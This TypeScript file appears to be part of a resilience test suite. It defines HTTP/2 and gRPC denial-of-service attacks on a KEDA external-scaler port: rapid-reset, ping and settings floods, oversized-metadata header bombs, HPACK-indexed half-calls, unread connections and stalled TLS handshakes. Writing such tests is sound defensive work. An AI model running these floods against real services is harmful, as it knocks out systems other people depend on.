import { setTimeout as sleep, setImmediate as turn } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { END_HEADERS, H2_PREFACE, h2Frame, h2Headers } from '@activescale/devkit';
import { EXTERNAL_SCALER, type ScaledObjectRef } from '@activescale/protocol/keda';
import type { ApiTarget, Assault, Attack } from '../../lib/assault.ts';
import { connectionAttacks } from '../../lib/connections.ts';
import { floodsOf } from '../../lib/floods.ts';
import { connectRaw, type RawOptions } from '../../lib/raw-connection.ts';
import { ROGUE } from '../asking.ts';
import { callOf, FIELDS, message, triggerOf } from './calls.ts';

// Attacks on the port of KEDA, by a pod that may connect to it.

const FLOODS = ['rapid-reset', 'ping-flood', 'settings-flood', 'small-data', 'header-bomb-of-many'];
const ROGUES = [66, 67, 68, 69, 70].map((last) => `127.0.0.${last}`);
const connection = ({ kedaPort }: ApiTarget): RawOptions => ({ port: kedaPort, from: ROGUE, alpn: 'h2' });

interface Calls {
  readonly name: string;
  readonly connections: number;
  /** On each connection. */
  readonly calls: number;
  /** The bytes of a call; streams have odd numbers. */
  readonly call: (stream: number) => Buffer;
  /** Nothing that api sends is read. */
  readonly unread?: boolean;
  /** Of the attacker's pods, which share the connections. */
  readonly addresses?: readonly string[];
}

/** Opens many calls over many connections, and reconnects when api closes one. */
async function open(
  { connections, calls, call, unread = false, addresses = [ROGUE] }: Calls,
  { target, signal, got }: Assault<ApiTarget>,
): Promise<void> {
  const one = async (from: string) => {
    while (!signal.aborted) {
      using raw = await connectRaw({ ...connection(target), from });
      if (unread) raw.socket.pause();
      await raw.write(H2_PREFACE);
      for (let i = 0; i < calls && !raw.closed && !signal.aborted; i++) {
        await raw.write(call(2 * i + 1));
        if (i % 20 === 0) await turn();
      }
      while (!raw.closed && !signal.aborted) await sleep(50);
      got(raw.closed ? 'connection closed' : 'connection kept');
      if (raw.closed) await sleep(5);
    }
  };
  await Promise.all(
    Array.from({ length: connections }, (_, i) => one(addresses[i % addresses.length] ?? ROGUE)),
  );
}

const { GetMetricSpec, IsActive, StreamIsActive } = EXTERNAL_SCALER;

const LARGE = Array.from({ length: 700 }, (_, i) => `!k${i.toString(36)}`)
  .join()
  .slice(0, 4_000);
const bomb = (n: number): ScaledObjectRef => {
  const { scalerMetadata, ...ref } = triggerOf(n, LARGE);
  const more = Array.from({ length: 12 }, (_, i) => [`scalerAddress${i}`, 'x'.repeat(4_096)]);
  return { ...ref, scalerMetadata: { ...scalerMetadata, ...Object.fromEntries(more) } };
};

const begun = (stream: number, more: Readonly<Record<string, string>> = {}) =>
  h2Frame('headers', END_HEADERS, stream, h2Headers({ ...FIELDS, ...more }));
/** As many as fit into the window of a call. */
const PACKED = Buffer.concat(Array<Buffer>(600).fill(message(gzipSync(Buffer.alloc(0)), true)));

/** A call of 15 bytes without a request: its header fields are in the dynamic table after the first one (RFC 7541, 6.2.1). */
function indexed(stream: number): Buffer {
  const text = (value: string) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
  const literals = [':path', ':authority', 'content-type', 'te'].flatMap((name) => [
    Buffer.from([0x40]),
    text(name),
    text(FIELDS[name] ?? ''),
  ]);
  const fields = stream === 1 ? literals : [Buffer.from([0xc1, 0xc0, 0xbf, 0xbe])];
  const block = Buffer.concat([Buffer.from([0x83, 0x86]), ...fields]);
  return h2Frame('headers', END_HEADERS, stream, block);
}

const CALLS: readonly Calls[] = [
  {
    name: 'keda-streams',
    connections: 4,
    calls: 1_400,
    call: (n) => callOf(n, StreamIsActive, triggerOf(n)),
  },
  { name: 'keda-metadata', connections: 4, calls: 100_000, call: (n) => callOf(n, GetMetricSpec, bomb(n)) },
  { name: 'keda-queries', connections: 4, calls: 100_000, call: (n) => callOf(n, IsActive, triggerOf(n)) },
  { name: 'keda-half-calls', connections: 45, calls: 1_400, call: indexed },
  { name: 'keda-half-calls-of-many', connections: 70, calls: 1_400, call: indexed, addresses: ROGUES },
  {
    name: 'keda-unread',
    connections: 45,
    calls: 1_400,
    call: (n) => callOf(n, GetMetricSpec, triggerOf(n)),
    unread: true,
  },
  {
    name: 'keda-packed',
    connections: 4,
    calls: 1_400,
    call: (n) => Buffer.concat([begun(n, { 'grpc-encoding': 'gzip' }), h2Frame('data', 0, n, PACKED)]),
  },
];

const named = (attack: Attack<ApiTarget>) => ({ ...attack, name: `keda-${attack.name}`, outward: true });

export const KEDA_ATTACKS: readonly Attack<ApiTarget>[] = [
  ...CALLS.map((calls) => ({
    name: calls.name,
    outward: true,
    run: (assault: Assault<ApiTarget>) => open(calls, assault),
  })),
  ...floodsOf<ApiTarget>({ connection, fields: FIELDS })
    .filter(({ name }) => FLOODS.includes(name))
    .map(named),
  ...connectionAttacks<ApiTarget>(connection)
    .filter(({ name }) => name !== 'admin-connections')
    .map(named),
  // Connections that never begin the TLS handshake.
  ...connectionAttacks<ApiTarget>(({ kedaPort }) => ({ port: kedaPort, from: ROGUE }))
    .filter(({ name }) => name === 'bare-connections')
    .map((attack) => ({ ...attack, name: 'keda-handshakes', outward: true })),
];
